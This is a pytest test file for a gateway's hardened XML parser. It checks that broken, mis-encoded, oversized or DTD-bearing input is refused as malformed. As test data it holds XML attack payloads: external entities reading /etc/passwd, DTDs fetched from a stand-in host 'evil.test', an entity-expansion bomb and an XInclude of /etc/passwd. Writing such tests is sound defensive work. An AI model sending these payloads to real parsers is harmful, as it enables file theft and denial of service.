"""Which XML from outside is let in (threat T23)."""

import codecs
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.upstream.errors import MalformedDocument
from gateway.upstream.pox import (
    DEEPEST,
    LONGEST_DOCUMENT,
    LONGEST_TEXT,
    MOST_CHILDREN,
    MOST_ELEMENTS,
    parse,
)

BOMB = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))

HARMFUL = {
    "empty": b"",
    "blank": b" \n",
    "text": b"Service is over queries per second limit",
    "json": b'{"catalog_titles":{}}',
    "html": b"<html><body><br></body></html>",
    "truncated in a tag": b"<a><b",
    "truncated between tags": b"<a><b></b>",
    "without its last byte": b"<a></a",
    "truncated in CDATA": b"<a><![CDATA[x",
    "two roots": b"<a/><b/>",
    "trailing garbage": b"<a/>x",
    "trailing NUL": b"<a/>\0",
    "NUL": b"<a>\0</a>",
    "control character": b"<a>\x01</a>",
    "crossed tags": b"<a><b></a></b>",
    "double attribute": b"<a b='1' b='2'/>",
    "undeclared entity": b"<a>&nbsp;</a>",
    "undeclared prefix": b"<x:a/>",
    "NUL by reference": b"<a>&#0;</a>",
    "surrogate by reference": b"<a>&#xD800;</a>",
    "lone surrogate": b"<a>\xed\xa0\x80</a>",
    "overlong": b"<a>\xc0\xbc</a>",
    "not UTF-8": b"<a>\xff</a>",
    "not the encoding it declares": b'<?xml version="1.0" encoding="utf-8"?><a>\xe9</a>',
    "declared Latin-1": b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xc3\xa9</a>',
    "declared UTF-16": b'<?xml version="1.0" encoding="UTF-16"?><a/>',
    "declared UTF-7": b"<?xml version='1.0' encoding='UTF-7'?>+ADw-a/+AD4-",
    "declared nonsense": b'<?xml version="1.0" encoding="no such thing"?><a/>',
    "UTF-16": "<a/>".encode("utf-16"),
    "UTF-16 without a mark": "<a/>".encode("utf-16-be"),
    "UTF-32": "<a/>".encode("utf-32"),
    "EBCDIC": '<?xml version="1.0"?><a/>'.encode("cp037"),
    "blank before the declaration": b' <?xml version="1.0"?><a/>',
    "XML 1.1 control": b'<?xml version="1.1"?><a>&#1;</a>',
    "DTD": b"<!DOCTYPE a><a/>",
    "DTD after everything": b'\xef\xbb\xbf<?xml version="1.0"?> <!-- <a> --><?x <!--?>\n<!DOCTYPE a><a/>',
    "DTD from elsewhere": b'<!DOCTYPE a SYSTEM "http://evil.test/x.dtd"><a/>',
    "external entity": b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    "parameter entity": b'<!DOCTYPE a [<!ENTITY % e SYSTEM "http://evil.test/"> %e;]><a/>',
    "entity bomb": f'<!DOCTYPE a [<!ENTITY e0 "x">{BOMB}]><a>&e9;</a>'.encode(),
    "quadratic entity": f'<!DOCTYPE a [<!ENTITY e "{"x" * 50_000}">]><a>{"&e;" * 50_000}</a>'.encode(),
    "unended comments": b"<!--" * 500_000,
    "unended instructions": b"<?a" * 500_000,
}


@pytest.mark.parametrize("name", HARMFUL)
def test_harmful_document_is_refused(name: str) -> None:
    """A document that is broken, in another encoding or brings a DTD is malformed, and nothing worse."""
    with pytest.raises(MalformedDocument):
        parse(HARMFUL[name])


@pytest.mark.parametrize(
    ("document", "text"),
    [
        (b"<a>x</a>", "x"),
        (b'<?xml version="1.0" standalone="yes"?>\n\n<a>x</a>\n', "x"),
        (b"<?xml version='1.0' encoding='utf-8'?><a>\xc3\xa9</a>", "é"),
        (codecs.BOM_UTF8 + b'<?xml version="1.0" encoding="UTF-8"?><a>x</a>', "x"),
        (b'<?xml version="1.0" encoding="US-ASCII"?><a>&#233;</a>', "é"),
        (b"<!-- a --><?pi?><a>x<!-- b -->y</a><!-- c -->", "xy"),
        (b"<a><![CDATA[<!DOCTYPE html><b>&nbsp;]]></a>", "<!DOCTYPE html><b>&nbsp;"),
        (b"<a><!-- <!DOCTYPE a> -->&lt;!DOCTYPE</a>", "<!DOCTYPE"),
        ("<a>\N{GRINNING FACE}</a>".encode(), "\N{GRINNING FACE}"),
    ],
)
def test_sound_document_is_let_in(document: bytes, text: str) -> None:
    """UTF-8 with or without a declaration or a mark is read; comments leave no trace."""
    assert parse(document).text == text


def test_inclusion_is_not_followed() -> None:
    """An inclusion is an element of another namespace, no more."""
    document = b"<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'/></a>"

    assert [child.tag for child in parse(document)] == ["{http://www.w3.org/2001/XInclude}include"]


def nested(levels: int) -> bytes:
    """Return a document of so many levels."""
    return b"<a>" * levels + b"</a>" * levels


def many(elements: int) -> bytes:
    """Return a document of so many elements."""
    full, rest = divmod(elements - 1, MOST_CHILDREN)
    groups = b"".join(
        b"<b>" + b"<c/>" * (size - 1) + b"</b>" for size in [MOST_CHILDREN] * full + [rest] if size
    )
    return b"<a>" + groups + b"</a>"


def wide(children: int) -> bytes:
    """Return a document of one element with so many others below it."""
    return b"<a><b/><c>" + b"<d/>" * children + b"</c></a>"


def attributes(count: int) -> bytes:
    """Return a document of one element with so many attributes."""
    return b"<a " + b" ".join(b"a%d='>'" % number for number in range(count)) + b"/>"


def long_text(length: int) -> bytes:
    """Return a document whose text is so long."""
    return b"<a>" + b"x" * length + b"</a>"


def long_attribute(length: int) -> bytes:
    """Return a document whose attribute is so long."""
    return b"<a><b c='" + b"x" * length + b"'/></a>"


def long_tail(length: int) -> bytes:
    """Return a document in which so much text follows an element."""
    return b"<a><b/>" + b"x" * length + b"</a>"


def large(length: int) -> bytes:
    """Return a document of so many bytes."""
    body = b"<b>" + b"x" * 999_993 + b"</b>"
    return b"<a>" + body * 7 + b"<c>" + b"x" * (length - 7 * len(body) - 14) + b"</c></a>"


BOUNDS = [
    (nested, DEEPEST),
    (many, MOST_ELEMENTS),
    (wide, MOST_CHILDREN),
    (long_text, LONGEST_TEXT),
    (long_attribute, LONGEST_TEXT),
    (long_tail, LONGEST_TEXT),
    (large, LONGEST_DOCUMENT),
]


@pytest.mark.parametrize(("document", "bound"), BOUNDS)
def test_document_at_a_bound_is_let_in(document: Callable[[int], bytes], bound: int) -> None:
    """A document is read up to and including each bound."""
    assert parse(document(bound)).tag == "a"


@pytest.mark.parametrize(("document", "bound"), BOUNDS)
def test_document_beyond_a_bound_is_refused(document: Callable[[int], bytes], bound: int) -> None:
    """One more level, element, character or byte is too many."""
    with pytest.raises(MalformedDocument):
        parse(document(bound + 1))


@pytest.mark.parametrize(
    "document",
    [nested(200_000), b"<a>" * 200_000, many(1_500_000), long_text(7_900_000), attributes(600_000)],
)
def test_document_far_beyond_a_bound_is_refused(document: bytes) -> None:
    """What makes other parsers crash is malformed here."""
    with pytest.raises(MalformedDocument):
        parse(document)


PIECES = "< > / a </a> <a> ='' ' & &amp; &# ; <!-- --> <![CDATA[ ]]> <?xml ?> encoding=' <!DOCTYPE [ ]"
MARKUP = st.lists(st.sampled_from([*PIECES.split(" "), " ", " xmlns='x'", "\0", "\ufffe"])).map("".join)


@given(st.binary() | MARKUP.map(str.encode) | MARKUP.map(lambda text: f"<a>{text}</a>".encode()))
def test_whatever_comes_in_is_read_or_malformed(document: bytes) -> None:
    """No bytes make the guard raise anything but the one error."""
    try:
        root = parse(document)
    except MalformedDocument:
        return

    assert root.getroottree().docinfo.internalDTD is None
